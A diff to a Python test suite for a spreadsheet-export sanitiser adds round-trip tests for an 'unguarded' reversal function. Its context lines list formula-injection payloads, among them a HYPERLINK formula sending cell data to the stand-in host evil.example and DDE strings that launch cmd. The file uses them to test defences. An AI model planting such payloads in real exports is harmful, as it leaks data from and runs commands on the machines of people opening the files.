@@ -14,7 +14,7 @@ from hypothesis import given, settings, strategies as st
 
 from analytics.errors import InputError
 from analytics.ingest import safe_export
-from analytics.ingest.safe_export import csv_bytes, safe_text, xlsx_bytes
+from analytics.ingest.safe_export import csv_bytes, safe_text, unguarded, xlsx_bytes
 
 DANGEROUS = [
     '=HYPERLINK("http://evil.example/?"&A1;"open")', "=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
@@ -136,3 +136,21 @@ def test_more_rows_than_a_sheet_holds_are_refused(monkeypatch):
     monkeypatch.setattr(safe_export, "MAX_XLSX_ROWS", 2)
     with pytest.raises(InputError, match="more than an Excel sheet holds"):
         xlsx_bytes(pd.DataFrame({"a": [1, 2, 3]}))
+
+
+@pytest.mark.parametrize(
+    "text", [*DANGEROUS, *HARMLESS, *NUMBERS, "'=1", "''=1", "'-5", "a;=b", "a;'=b", "=;'=", "\t'=x", "'a"]
+)
+def test_what_was_guarded_comes_back_as_it_was(text):
+    assert unguarded(safe_text(text)) == text
+
+
+@given(st.text(alphabet="'=;+-@ \t\r\n|12ax＝\u200b,.%\xa0", max_size=12) | st.text(max_size=30))
+@settings(max_examples=600, deadline=None)
+def test_law_guarding_loses_nothing(text):
+    assert unguarded(safe_text(text)) == text
+
+
+@pytest.mark.parametrize("text", ["'twas", "it's", "'90s music", "a'=b", "'-5", "';", "say 'yes'; 'no'"])
+def test_an_apostrophe_that_nobody_put_there_stays(text):
+    assert unguarded(text) == text
